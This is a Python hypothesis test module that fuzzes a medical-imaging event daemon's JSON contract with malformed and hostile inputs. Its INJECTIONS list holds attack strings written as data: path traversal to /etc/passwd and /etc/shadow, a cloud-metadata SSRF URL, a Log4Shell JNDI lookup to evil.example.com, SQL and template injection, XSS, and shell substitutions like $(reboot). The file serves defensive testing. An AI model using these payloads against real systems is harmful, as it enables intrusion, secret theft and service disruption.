"""Hostile study events: the JSON contract with wrong types, huge strings, unknown fields and
versions, injection in every string field, invalid UTF-8, deep nesting and broken JSON.

:func:`hostile_event` draws the raw bytes of one event.  Most start from a well-formed event
(so validation gets deep) and change one to three things; some are bytes no JSON parser takes.
Each comes as a :class:`RawEvent` whose repr is short (hypothesis prints failing cases).
"""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

from hypothesis import strategies as st

Draw = Callable[[st.SearchStrategy[Any]], Any]
#: strings an attacker puts in every field: traversal, URL tricks, injection of all kinds
INJECTIONS = (
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\system32",
    "/etc/shadow",
    "/proc/self/environ",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%c0%af..%c0%afetc",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/iam/",
    "http://127.0.0.1:9092/",
    "https://vna.example.org/dicom-web?x=1",
    "https://vna.example.org/dicom-web#frag",
    "https://user:secret@vna.example.org/dicom-web",
    "https://vna.example.org@evil.example.com/dicom-web",
    "https://VNA.EXAMPLE.ORG:443/dicom-web/",
    "http://[::1]:80/",
    "gopher://127.0.0.1:25/_HELO",
    "a\r\nX-Injected: 1\r\n\r\n",
    "job\nINFO forged log line",
    "\x1b[31mred\x1b[0m",
    "'; DROP TABLE jobs; --",
    '" OR 1=1 --',
    "${jndi:ldap://evil.example.com/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "$(reboot)",
    "`id`",
    "\x00",
    "a\x00b",
    "\u202egnp.exe",
    "\ud800",
    "\udfff\ud800",
    "ＪＯＨＮ＾ＤＯＥ",
    "1.2.840.10008.1.2.1\x00",
    "1." * 40 + "1",
    "0.0.0.0",
    "default",
    "inbox",
    "",
    " ",
)
HUGE_SIZES = (129, 4097, 70_000, 1_000_001, 2_100_000)


def hostile_text() -> st.SearchStrategy[str]:
    """An injection, any text, or a huge run of one character."""
    huge = st.tuples(st.sampled_from(HUGE_SIZES), st.sampled_from("A/.9\u00e9\U0001f600")).map(
        lambda pair: pair[1] * pair[0]
    )
    return st.one_of(st.sampled_from(INJECTIONS), st.text(max_size=64), huge)


def hostile_value() -> st.SearchStrategy[Any]:
    """Any JSON value of the wrong kind: text, numbers (huge too), booleans, null, nesting."""
    scalars = st.one_of(
        hostile_text(),
        st.integers(min_value=-(2**70), max_value=2**70),
        st.floats(allow_nan=True, allow_infinity=True),
        st.booleans(),
        st.none(),
    )
    return st.recursive(
        scalars,
        lambda inner: st.lists(inner, max_size=3)
        | st.dictionaries(hostile_text(), inner, max_size=3),
        max_leaves=8,
    )


def _uid() -> st.SearchStrategy[str]:
    return st.lists(st.integers(0, 99999).map(str), min_size=2, max_size=8).map(".".join)


def sources() -> st.SearchStrategy[dict[str, Any]]:
    """Well-formed source objects of every kind (naming configured sources or not)."""
    name = st.sampled_from(["inbox", "vna", "pacs", "default", "nope"])
    return st.one_of(
        st.fixed_dictionaries({"name": name}),
        st.fixed_dictionaries({"kind": st.just("dicomweb")}, optional={"name": name}),
        st.fixed_dictionaries({"kind": st.just("dicomweb"), "base_url": hostile_text()}),
        st.fixed_dictionaries(
            {
                "kind": st.just("dimse"),
                "ae_title": st.sampled_from(["PACS", "ANY-SCP", "A"]),
                "host": st.sampled_from(["127.0.0.1", "localhost", "10.0.0.5"]),
                "port": st.integers(1, 65535),
            },
            optional={"method": st.sampled_from(["c-get", "c-move"])},
        ),
        st.fixed_dictionaries(
            {"kind": st.just("local"), "path": hostile_text()},
            optional={"name": name},
        ),
    )


def base_events() -> st.SearchStrategy[dict[str, Any]]:
    """Events that match the contract (their sources may still be refused by the daemon)."""
    return st.fixed_dictionaries(
        {
            "event_type": st.sampled_from(["study_scheduled_for_exchange", "study_received"]),
            "study_uid": _uid(),
            "destination": st.sampled_from(["default", "exchange-a", "../../out"]),
            "exchange_job_id": st.from_regex(r"\Afuzz-[A-Za-z0-9._:/-]{1,40}\Z"),
            "source": sources(),
        },
        optional={
            "schema_version": st.just(1),
            "priority": st.sampled_from(["stat", "urgent", "routine", "low"]),
            "hl7": st.none() | hostile_text(),
        },
    )


FIELDS = (
    "schema_version", "event_type", "study_uid", "destination", "exchange_job_id", "source",
    "priority", "hl7",
)  # fmt: skip
SOURCE_FIELDS = (
    "kind", "name", "base_url", "ae_title", "host", "port", "method", "move_destination_ae",
    "move_destination_port", "path",
)  # fmt: skip


def _tamper(event: dict[str, Any], draw: Draw) -> str:
    """Change one thing of ``event`` in place; return a label."""
    how = draw(
        st.sampled_from(
            ["replace", "inject", "drop", "unknown", "version", "source_field", "source_type"]
        )
    )
    if how in ("replace", "inject"):
        field = draw(st.sampled_from(FIELDS))
        event[field] = draw(hostile_value() if how == "replace" else hostile_text())
        return f"{how}_{field}"
    if how == "drop":
        event.pop(draw(st.sampled_from(FIELDS)), None)
        return "drop"
    if how == "unknown":
        event[draw(hostile_text())] = draw(hostile_value())
        return "unknown_field"
    if how == "version":
        values = st.sampled_from([0, 2, 99, -1, "1", 1.0, 1.5, None, True, 10**30, "v1"])
        event["schema_version"] = draw(values)
        return "version"
    source = event.get("source")
    if not isinstance(source, dict):
        return "none"
    field = draw(st.sampled_from(SOURCE_FIELDS))
    source[field] = draw(hostile_text() if how == "source_field" else hostile_value())
    return f"{how}_{field}"


def _dumps(event: Any, draw: Draw) -> bytes:
    ascii_only = draw(st.booleans())
    try:
        text = json.dumps(event, ensure_ascii=ascii_only)
    except (ValueError, RecursionError):
        text = json.dumps(str(event)[:1000])
    return text.encode("utf-8", "surrogatepass")


#: byte-level damage: not JSON, not UTF-8, not an object, too deep, too big, duplicated keys
_RAW_DAMAGE = ("truncate", "bad_utf8", "utf16", "bom", "deep", "huge_int", "not_object",
               "garbage", "duplicate_key", "nan", "empty", "oversized")  # fmt: skip
_BAD_UTF8 = (b"\xff", b"\xc3\x28", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\x80")


def _damage(raw: bytes, draw: Draw) -> tuple[bytes, str]:
    how = draw(st.sampled_from(_RAW_DAMAGE))
    if how == "truncate":
        return raw[: draw(st.integers(0, max(0, len(raw) - 1)))], how
    if how == "bad_utf8":
        at = draw(st.integers(0, len(raw)))
        return raw[:at] + draw(st.sampled_from(_BAD_UTF8)) + raw[at:], how
    if how == "utf16":
        return raw.decode("utf-8", "surrogatepass").encode("utf-16", "surrogatepass"), how
    if how == "bom":
        return b"\xef\xbb\xbf" + raw, how
    if how == "deep":
        depth = draw(st.sampled_from([100, 990, 5000, 200_000]))
        return b'{"source": ' + b"[" * depth + b"]" * depth + b"}", how
    if how == "huge_int":
        return b'{"schema_version": 1' + b"0" * draw(st.sampled_from([5000, 100_000])) + b"}", how
    if how == "not_object":
        return draw(st.sampled_from([b"[]", b"1", b'"event"', b"null", b"true", b"[{}]"])), how
    if how == "garbage":
        return draw(st.binary(max_size=256)), how
    if how == "duplicate_key":
        return raw[:-1] + b', "exchange_job_id": "fuzz-dup", "study_uid": "1.2"}', how
    if how == "nan":
        return raw[:-1] + b', "priority": NaN}', how
    if how == "empty":
        return b"", how
    return b'{"hl7": "' + b"A" * 2_000_001 + b'"}', how


class RawEvent:
    """The bytes of one event as sent; its repr is short (labels, size)."""

    __slots__ = ("labels", "raw")

    def __init__(self, raw: bytes, labels: str) -> None:
        self.raw = raw
        self.labels = labels

    def __repr__(self) -> str:
        head = self.raw[:80]
        return f"RawEvent({self.labels}, {len(self.raw)} bytes, {head!r}...)"


@st.composite
def hostile_event(draw: Draw, max_bytes: int | None = None) -> RawEvent:
    """The raw bytes of a hostile event; ``max_bytes`` caps the size (Kafka's message limit)."""
    event: dict[str, Any] = draw(base_events())
    labels = [draw(st.sampled_from(["valid", "tampered", "raw"]))]
    if labels[0] != "valid":
        labels += [_tamper(event, draw) for _ in range(draw(st.integers(1, 3)))]
    raw = _dumps(event, draw)
    if labels[0] == "raw":
        raw, how = _damage(raw, draw)
        labels.append(how)
    if max_bytes is not None and len(raw) > max_bytes:
        raw, labels = raw[:max_bytes], [*labels, "capped"]
    return RawEvent(raw, "+".join(labels))
